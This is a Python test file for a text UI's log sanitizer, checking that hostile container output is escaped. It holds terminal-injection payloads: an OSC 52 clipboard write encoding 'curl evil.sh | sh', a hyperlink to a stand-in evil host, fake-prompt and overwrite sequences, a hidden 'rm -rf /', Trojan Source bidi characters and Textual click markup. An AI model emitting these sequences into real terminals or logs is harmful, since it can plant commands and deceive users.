"""Hostile log lines: nothing in them reaches a terminal, or Textual's markup, as a command."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from batchtui.render.sanitize import escape_textual_markup, is_terminal_safe, sanitize_line

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

#: Lines a compromised or careless container can print, and what each would do unescaped.
HOSTILE = {
    "osc52 clipboard write (BEL)": f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={BEL}",
    "osc52 clipboard write (ST)": f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={ST}",
    "osc0 window title": f"{ESC}]0;sudo password needed{BEL}",
    "osc8 hyperlink": f"{ESC}]8;;https://evil.example/{ST}click me{ESC}]8;;{ST}",
    "csi clear screen and home": f"{ESC}[2J{ESC}[H fake prompt $ ",
    "csi colour": f"{ESC}[31mERROR{ESC}[0m",
    "csi cursor up, overwrite previous line": f"{ESC}[1A{ESC}[2KAll tests passed",
    "dcs sequence": f"{ESC}P+q544e{ST}",
    "8-bit csi (C1)": "\x9b2J",
    "8-bit osc (C1)": "\x9d0;title\x9c",
    "next line (C1 NEL)": "a\x85b",
    "bell": f"ding{BEL}",
    "backspace overwrite": "rm -rf /\b\b\b\b\b\b\bls -la  ",
    "carriage return overwrite": "SECRET=hunter2\rSECRET=*******",
    "nul and other C0": "a\x00b\x01c\x1fd",
    "delete": "x\x7fy",
    "rtl override (Trojan Source)": "access_level = 'user\u202e \u2066// check admin\u2069 \u2066'",
    "bidi isolates and marks": "\u2067abc\u2069\u200f\u200e\u061c",
    "line separator": "one\u2028two\u2029three",
    "lone surrogate": "bad \ud83d half emoji",
    "rich/textual link markup": "[link=https://evil.example]docs[/link]",
    "textual click action": "[@click=app.quit]press[/]",
    "textual variable": "[$accent]styled[/]",
    "rich bold": "[bold red]ALERT[/bold red]",
    "escaped-looking markup": "\\[b]not bold\\",
}

#: C0 (except TAB, LF), DEL, C1, bidi controls, separators, surrogates.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029"
    "\ud800-\udfff]"
)


@pytest.mark.parametrize("line", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_line_is_defused_and_shown(line: str) -> None:
    out = sanitize_line(line)
    assert FORBIDDEN.search(out) is None
    assert is_terminal_safe(out)
    assert out.encode("utf-8")  # lone surrogates would fail here
    # Made visible, not dropped: every unsafe character left a \x.. or \u.... mark behind.
    assert len(re.findall(r"\\x[0-9a-f]{2}|\\u[0-9a-f]{4}|\\r", out)) == len(
        FORBIDDEN.findall(line)
    )


@pytest.mark.parametrize("line", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_line_shows_literally_in_textual(line: str) -> None:
    from textual.content import Content

    safe = sanitize_line(line)
    content = Content.from_markup(escape_textual_markup(safe))
    assert content.plain == safe
    assert list(content.spans) == []


def test_textual_own_escape_would_not_do() -> None:
    """Why escape_textual_markup exists: textual.markup.escape leaves a variable active."""
    from textual.content import Content
    from textual.markup import escape

    assert Content.from_markup(escape("[$accent]x")).plain == "x"


def test_examples() -> None:
    assert sanitize_line(f"{ESC}[31mred{ESC}[0m\n") == "\\x1b[31mred\\x1b[0m"
    assert sanitize_line("a\r\n") == "a"
    assert sanitize_line("tab\there\nnext") == "tab\there\nnext"
    assert sanitize_line("tab\there\nnext", single_line=True) == "tab\\there\\nnext"
    assert sanitize_line("\u202e") == "\\u202e"
    assert sanitize_line("emoji 👨‍👩‍👧 and é stay") == "emoji 👨‍👩‍👧 and é stay"


def _unescape(s: str) -> str:
    return re.sub(
        r"\\x([0-9a-f]{2})|\\u([0-9a-f]{4})|\\r",
        lambda m: chr(int(m.group(1) or m.group(2), 16)) if m.group(0) != "\\r" else "\r",
        s,
    )


@given(st.text(alphabet=st.characters(blacklist_characters="\\")))
def test_any_text_comes_out_safe_and_complete(text: str) -> None:
    out = sanitize_line(text)
    assert FORBIDDEN.search(out) is None
    expected = text[:-2] if text.endswith("\r\n") else text[:-1] if text.endswith("\n") else text
    assert _unescape(out) == expected  # nothing dropped, nothing reordered
